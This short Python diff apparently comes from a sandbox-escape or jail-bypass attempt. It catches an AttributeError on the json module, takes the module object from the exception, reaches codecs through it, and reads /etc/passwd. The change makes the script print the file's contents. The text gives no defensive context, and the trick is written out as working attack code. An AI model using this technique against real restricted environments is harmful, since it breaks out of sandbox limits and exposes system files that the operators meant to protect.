@@ -7,4 +7,4 @@ try:
     json.nope
 except AttributeError as e:
     mod = e.obj
-    mod.codecs.open("/etc/passwd").read()
+    print(mod.codecs.open("/etc/passwd").read())
